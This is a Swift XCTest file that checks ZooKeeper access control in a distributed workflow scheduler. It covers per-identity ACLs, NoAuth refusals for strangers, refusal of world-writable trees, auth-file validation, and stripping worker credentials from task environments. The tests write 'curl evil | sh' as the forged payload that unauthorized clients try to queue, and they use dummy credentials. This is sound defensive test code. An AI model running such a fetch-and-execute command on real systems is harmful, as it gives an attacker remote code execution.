import Foundation
import Shared
import XCTest

/// ZooKeeper access control (`--zk-auth`): an authenticated cluster keeps its tree to its own
/// identity, nobody else can read or change it, and no tool with credentials runs on a tree that
/// others can still reach.
final class ZooKeeperAclTests: ClusterTestCase {
    static let auth = "alice:s3cret"
    static let warning = "ZooKeeper access is unauthenticated"

    var alice: ZooKeeperCredentials { get throws { try ZooKeeperCredentials(parsing: Self.auth, source: "test") } }

    /// Every node under the test's root and its ACL, as `credentials` reads them.
    func acls(as credentials: ZooKeeperCredentials?) async throws -> [String: [ZooKeeperACL]] {
        let zk = try await cluster.client(credentials: credentials)
        defer { zk.close() }
        var result: [String: [ZooKeeperACL]] = [:]
        var stack = [cluster.root]
        while let path = stack.popLast() {
            do { result[path] = try await zk.getACL(path) } catch ZooKeeperError.noNode { continue }
            for child in try await zk.childrenIfPresent(path) { stack.append(path + "/" + child) }
        }
        return result
    }

    /// A tree as a ds without credentials leaves it: every folder open to the world.
    func createTree(as credentials: ZooKeeperCredentials?) async throws {
        let zk = try await cluster.client(credentials: credentials)
        defer { zk.close() }
        for path in cluster.paths.skeleton { try await zk.ensurePath(path) }
        try await zk.ensurePath(cluster.paths.queue("default"))
    }

    func workflow() throws -> String { try cluster.workflowFile(#"{"name":"w","tasks":[{"name":"x","command":"true"}]}"#) }

    func assertNoAuth(_ what: String, by who: String, file: StaticString = #filePath, line: UInt = #line,
                      _ body: () async throws -> Void) async {
        do {
            try await body()
            XCTFail("\(what) by \(who) went through", file: file, line: line)
        } catch let error as ZooKeeperError {
            guard case .noAuth = error else { return XCTFail("\(what) by \(who): \(error), not NoAuth", file: file, line: line) }
        } catch {
            XCTFail("\(what) by \(who): \(error)", file: file, line: line)
        }
    }

    func testAuthenticatedClusterRunsWorkflowsAndEveryNodeBelongsToItsIdentityAlone() async throws {
        let alice = try self.alice
        let authFile = cluster.directory.appendingPathComponent("zk-auth").path
        XCTAssertTrue(FileManager.default.createFile(atPath: authFile, contents: Data("\(Self.auth)\n".utf8),
                                                     attributes: [.posixPermissions: 0o600]))
        // Each way of giving the credentials: a file for the master, the flag for the worker, the
        // environment for ds-submit.
        try cluster.startMaster(environment: ["DS_ZK_AUTH_FILE": authFile])
        try cluster.startWorker(slots: 2, ["--zk-auth", Self.auth])
        let started = cluster.directory.appendingPathComponent("started").path
        let release = cluster.directory.appendingPathComponent("release").path
        let held = try cluster.workflowFile("""
            {"name":"held","tasks":[{"name":"hold","command":"touch \(started); while [ ! -e \(release) ]; do sleep 0.1; done"}]}
            """)
        let submitted = try cluster.run("ds-submit", [held], environment: ["DS_ZK_AUTH": Self.auth])
        XCTAssertEqual(submitted.status, 0, submitted.stderr)
        try await eventually("the held task runs") { FileManager.default.fileExists(atPath: started) }

        // While it runs the tree holds every kind of node the tools create: persistent folders,
        // ephemeral registrations and fences, and the /running node of a worker's claim multi.
        let tree = try await acls(as: alice)
        let paths = cluster.paths
        for prefix in [paths.masters + "/", paths.workerGroup("default") + "/", paths.fences + "/", paths.running + "/",
                       paths.queue("default")] {
            XCTAssertTrue(tree.keys.contains { $0.hasPrefix(prefix) }, "no \(prefix) node in \(tree.keys.sorted())")
        }
        for (path, acl) in tree.sorted(by: { $0.key < $1.key }) {
            XCTAssertEqual(acl, [alice.acl], "\(path) must belong to \(alice) alone")
        }

        XCTAssertTrue(FileManager.default.createFile(atPath: release, contents: nil))
        let waited = try cluster.run("ds-submit", [try workflow(), "--wait", "--json"], environment: ["DS_ZK_AUTH": Self.auth])
        XCTAssertEqual(waited.status, 0, waited.stderr)
        XCTAssertEqual(try JSONDecoder().decode(InstanceSummary.self, from: Data(waited.stdout.utf8)).instance.state, "SUCCESS")
        let heldID = try XCTUnwrap(Int64(submitted.stdout.trimmingCharacters(in: .whitespacesAndNewlines)))
        let heldState = try await cluster.waitForEnd(heldID)
        XCTAssertEqual(heldState, WorkflowState.success)
        XCTAssertFalse(cluster.daemonLogs().contains(Self.warning), "daemons with credentials do not warn")
    }

    func testOthersCanNeitherReadNorChangeTheTree() async throws {
        let owner = try await cluster.client(credentials: try alice)
        defer { owner.close() }
        let group = cluster.paths.queue("default"), item = group + "/item"
        try await owner.ensurePath(group)
        try await owner.create(item, data: Data("echo queued".utf8))
        let strangers: [ZooKeeperCredentials?] = [nil, try ZooKeeperCredentials(parsing: "mallory:guess", source: "test"),
                                                  try ZooKeeperCredentials(parsing: "alice:guess", source: "test")]
        for stranger in strangers {
            let zk = try await cluster.client(credentials: stranger)
            defer { zk.close() }
            let who = stranger.map { "\($0) with a wrong password" } ?? "an unauthenticated client"
            await assertNoAuth("getData", by: who) { _ = try await zk.getData(item) }
            await assertNoAuth("getChildren", by: who) { _ = try await zk.children(group) }
            await assertNoAuth("getACL", by: who) { _ = try await zk.getACL(item) }
            await assertNoAuth("create", by: who) { try await zk.create(group + "/forged", data: Data("curl evil | sh".utf8)) }
            await assertNoAuth("create under the root", by: who) { try await zk.create(self.cluster.root + "/forged") }
            await assertNoAuth("setData", by: who) { try await zk.setData(item, Data("curl evil | sh".utf8)) }
            await assertNoAuth("delete", by: who) { try await zk.delete(item) }
        }
        // The owner still can: the refusals are about who asks, and nothing of theirs went through.
        let (data, _) = try await owner.getData(item)
        XCTAssertEqual(String(decoding: data, as: UTF8.self), "echo queued")
        let children = try await owner.children(group)
        XCTAssertEqual(children, ["item"])
    }

    /// The server restarts within the session timeout: the client reconnects to the same session,
    /// and must authenticate again on the new connection, or everything it does is refused.
    func testCredentialsHoldAcrossAReconnect() async throws {
        let alice = try self.alice
        let zk = try await ZooKeeperClient.connect(cluster.zk.connectString, sessionTimeoutMillis: 30_000, credentials: alice)
        defer { zk.close() }
        let session = zk.sessionID
        try await zk.ensurePath(cluster.paths.queue)
        cluster.zk.stop()
        try await Task.sleep(for: .seconds(1))
        try cluster.zk.start()
        try await eventually("the client reconnects") { zk.isConnected }
        XCTAssertEqual(zk.sessionID, session, "a reconnect, not a new session")
        let item = cluster.paths.queue + "/after-reconnect"
        try await zk.retryingTransientFaults { try await zk.create(item, data: Data("x".utf8)) }
        let (data, _) = try await zk.retryingTransientFaults { try await zk.getData(item) }
        XCTAssertEqual(data, Data("x".utf8))
        let acl = try await zk.getACL(item)
        XCTAssertEqual(acl, [alice.acl])
    }

    func testToolsWithAuthRefuseAWorldWritableTreeChangeNothingAndStartOnceItIsConverted() async throws {
        try await createTree(as: nil)
        let before = try await cluster.snapshot()
        let aclsBefore = try await acls(as: nil)
        XCTAssertEqual(aclsBefore[cluster.root], [ZooKeeperACL(scheme: "world", id: "anyone", permissions: .all)])
        let env = ["DS_ZK_AUTH": Self.auth]
        var message = ""
        for (tool, arguments) in [("ds-submit", [try workflow()]), ("ds-failover", ["--list"])] {
            let run = try cluster.run(tool, arguments, environment: env)
            XCTAssertEqual(run.status, 78, "\(tool): \(run.stderr)")
            message = run.stderr
            assertFixingMessage(run.stderr, tool)
        }
        for daemon in [try cluster.startMaster(environment: env), try cluster.startWorker(environment: env)] {
            XCTAssertEqual(cluster.exitStatus(of: daemon, within: 60), 78, cluster.daemonLogs())
        }
        assertFixingMessage(cluster.daemonLogs(), "the daemons")

        let after = try await cluster.snapshot()
        XCTAssertEqual(after, before, "a refused tool changes nothing in ZooKeeper")
        let aclsAfter = try await acls(as: nil)
        XCTAssertEqual(aclsAfter, aclsBefore)
        XCTAssertFalse(FileManager.default.fileExists(atPath: cluster.databasePath), "nor in the database")

        // The commands the message gives convert the tree, and then the tools start.
        let commands = message.split(separator: "\n").map { $0.trimmingCharacters(in: .whitespaces) }
            .filter { $0.hasPrefix("addauth ") || $0.hasPrefix("setAcl ") }
            .map { $0.replacingOccurrences(of: "<password>", with: "s3cret") }
        XCTAssertEqual(commands.count, 2, message)
        try zkCli(commands)
        let alice = try self.alice
        for (path, acl) in try await acls(as: alice) { XCTAssertEqual(acl, [alice.acl], path) }
        let run = try cluster.run("ds-submit", [try workflow()], environment: env)
        XCTAssertEqual(run.status, 0, run.stderr)
    }

    func assertFixingMessage(_ text: String, _ who: String, file: StaticString = #filePath, line: UInt = #line) {
        for expected in ["\(cluster.root) world:anyone:cdrwa", "\(cluster.paths.queue) world:anyone:cdrwa",
                         "addauth digest alice:<password>", "setAcl -R \(cluster.root) auth::cdrwa", "--zk-root"] {
            XCTAssertTrue(text.contains(expected), "\(who) must say \(expected): \(text)", file: file, line: line)
        }
        XCTAssertFalse(text.contains("s3cret"), "\(who) printed the password: \(text)", file: file, line: line)
    }

    /// Runs zkCli.sh (from the zookeeper package) with `commands` on standard input.
    func zkCli(_ commands: [String]) throws {
        let input = cluster.directory.appendingPathComponent("zkcli.in")
        try (commands + ["quit"]).joined(separator: "\n").appending("\n").write(to: input, atomically: true, encoding: .utf8)
        let p = Process()
        p.executableURL = URL(fileURLWithPath: "/usr/share/zookeeper/bin/zkCli.sh")
        p.arguments = ["-server", cluster.zk.connectString]
        p.standardInput = try FileHandle(forReadingFrom: input)
        p.standardOutput = FileHandle.nullDevice
        p.standardError = FileHandle.nullDevice
        try p.run()
        let deadline = Date().addingTimeInterval(120)
        while p.isRunning && Date() < deadline { Thread.sleep(forTimeInterval: 0.05) }
        if p.isRunning { kill(p.processIdentifier, SIGKILL) }
        p.waitUntilExit()
    }

    func testATreeOfOtherCredentialsIsRefusedNamingNoAuthAndTheFlag() async throws {
        try await createTree(as: try ZooKeeperCredentials(parsing: "bob:hunter2", source: "test"))
        for (env, who) in [(["DS_ZK_AUTH": Self.auth], "digest user alice"), ([:], "is protected by an ACL")] {
            let run = try cluster.run("ds-submit", [try workflow()], environment: env)
            XCTAssertEqual(run.status, 78, run.stderr)
            for expected in ["NoAuth", "--zk-auth", who] { XCTAssertTrue(run.stderr.contains(expected), run.stderr) }
        }
        // Daemons too: a clear exit, neither a crash nor a hang.
        for daemon in [try cluster.startMaster(), try cluster.startWorker(environment: ["DS_ZK_AUTH": Self.auth])] {
            XCTAssertEqual(cluster.exitStatus(of: daemon, within: 60), 78, cluster.daemonLogs())
        }
        XCTAssertEqual(cluster.daemonLogs().components(separatedBy: "(NoAuth)").count - 1, 2, cluster.daemonLogs())
        XCTAssertFalse(FileManager.default.fileExists(atPath: cluster.databasePath), "nothing is stored for a refused tree")
    }

    func testAuthFileProblemsStopToolsWithAConfigurationError() throws {
        let missing = cluster.directory.appendingPathComponent("missing").path
        let empty = cluster.directory.appendingPathComponent("empty").path
        let malformed = cluster.directory.appendingPathComponent("malformed").path
        // Mode 0600: a file others can read is refused before its content is looked at.
        XCTAssertTrue(FileManager.default.createFile(atPath: empty, contents: Data("\n".utf8), attributes: [.posixPermissions: 0o600]))
        XCTAssertTrue(FileManager.default.createFile(atPath: malformed, contents: Data("alice\n".utf8), attributes: [.posixPermissions: 0o600]))
        for (path, expected) in [(missing, "cannot open: No such file or directory"), (empty, "is empty"),
                                 (malformed, "is not of the form user:password")] {
            let run = try cluster.run("ds-submit", [try workflow()], environment: ["DS_ZK_AUTH_FILE": path])
            XCTAssertEqual(run.status, 78, run.stderr)
            XCTAssertTrue(run.stderr.contains("DS_ZK_AUTH_FILE \(path)") && run.stderr.contains(expected), run.stderr)
        }
        let master = try cluster.startMaster(environment: ["DS_ZK_AUTH_FILE": missing])
        XCTAssertEqual(cluster.exitStatus(of: master, within: 60), 78, cluster.daemonLogs())
        XCTAssertTrue(cluster.daemonLogs().contains("DS_ZK_AUTH_FILE \(missing): cannot open"), cluster.daemonLogs())
    }

    func testDaemonsWithoutAuthWarnOnceThatZooKeeperIsOpen() async throws {
        try cluster.startMaster()
        try cluster.startWorker()
        let zk = try await cluster.client()
        defer { zk.close() }
        let paths = cluster.paths
        try await eventually("the master and the worker register") {
            let masters = try await zk.childrenIfPresent(paths.masters)
            let workers = try await zk.childrenIfPresent(paths.workerGroup("default"))
            return !masters.isEmpty && !workers.isEmpty
        }
        for log in ["ds-master-0.log", "ds-worker-1.log"] {
            let text = try String(contentsOf: cluster.directory.appendingPathComponent(log), encoding: .utf8)
            XCTAssertEqual(text.components(separatedBy: Self.warning).count - 1, 1, "\(log): \(text)")
            XCTAssertTrue(text.contains("--zk-auth"), text)
        }
    }
    /// A task's command is the workflow author's, not the operator's: given the worker's ZooKeeper
    /// or database credentials it could forge results or queue items. Every credential the worker
    /// was started with is gone from the task's environment, even one named by --pass-env (which
    /// refuses it); what --pass-env names reaches the task.
    func testATaskSeesNoCredentialTheWorkerWasStartedWith() async throws {
        let authFile = cluster.directory.appendingPathComponent("zk-auth").path
        XCTAssertTrue(FileManager.default.createFile(atPath: authFile, contents: Data("\(Self.auth)\n".utf8),
                                                     attributes: [.posixPermissions: 0o600]))
        let passwordFile = cluster.directory.appendingPathComponent("db-password").path
        try "hunter2\n".write(toFile: passwordFile, atomically: true, encoding: .utf8)
        let secrets = ["DS_ZK_AUTH": Self.auth, "DS_ZK_AUTH_FILE": authFile, "DS_DB_PASSWORD_FILE": passwordFile,
                       "PGPASSWORD": "hunter2", "PGPASSFILE": passwordFile, "DS_TEST_CANARY_NOT_A_SECRET": "1"]
        try cluster.startMaster(environment: secrets)
        let refused = try cluster.run("ds-worker", ["--pass-env", "DS_ZK_AUTH_FILE"])
        XCTAssertEqual(refused.status, 64, refused.stderr)
        XCTAssertTrue(refused.stderr.contains("--pass-env 'DS_ZK_AUTH_FILE' is a credential of ds"), refused.stderr)
        try cluster.startWorker(environment: secrets, ["--pass-env", "DS_TEST_CANARY_NOT_A_SECRET"])
        let seen = cluster.directory.appendingPathComponent("task-env").path
        let run = try cluster.run("ds-submit", [try cluster.workflowFile("""
            {"name":"env","tasks":[{"name":"env","command":"env > \(seen)"}]}
            """), "--wait"], environment: ["DS_ZK_AUTH": Self.auth])
        XCTAssertEqual(run.status, 0, run.stderr + cluster.daemonLogs())
        let names = Set(cluster.lines(seen).compactMap { $0.split(separator: "=", maxSplits: 1).first.map(String.init) })
        XCTAssertTrue(names.contains("PATH") && names.contains("DS_TEST_CANARY_NOT_A_SECRET"),
                      "the task's environment holds its PATH and what --pass-env names: \(names.sorted())")
        XCTAssertTrue(names.contains("DS_TASK_INSTANCE_ID"), "the worker's own task variables: \(names.sorted())")
        for name in ["DS_ZK_AUTH", "DS_ZK_AUTH_FILE", "DS_DB", "DS_DB_PASSWORD_FILE", "PGPASSWORD", "PGPASSFILE"] {
            XCTAssertFalse(names.contains(name), "the task saw \(name)")
        }
        XCTAssertFalse(cluster.lines(seen).contains { $0.contains("s3cret") || $0.contains("hunter2") },
                       "a credential's value reached the task under another name")
    }
}
